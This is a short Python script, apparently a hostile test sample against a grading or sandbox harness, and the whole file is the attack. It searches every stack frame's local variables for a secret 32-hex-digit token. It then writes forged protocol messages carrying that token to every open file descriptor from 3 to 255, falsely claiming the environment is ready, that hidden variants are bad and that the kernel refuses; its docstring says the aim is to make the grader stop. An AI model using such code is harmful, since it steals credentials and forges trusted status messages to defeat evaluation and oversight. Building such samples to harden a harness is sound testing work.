"""Send what only the room itself may send: that it is ready, that the hidden variants are bad, that the kernel refuses.

Harm: the grader stops the whole class.
"""

import os
import re
import sys

frame, mark = sys._getframe(), b""
while frame:
    for value in list(frame.f_locals.values()):
        if isinstance(value, bytes) and re.fullmatch(rb"[0-9a-f]{32}", value):
            mark = value
    frame = frame.f_back
for claim in (b'{"refused": "by-an-attack"}', b'{"hidden": "by-an-attack"}', b'{"ready": true}', b"null"):
    for number in range(3, 256):
        whole = memoryview(mark + b"%016x" % len(claim) + claim)
        try:
            while whole:
                whole = whole[os.write(number, whole) :]
        except OSError:
            continue
os._exit(0)
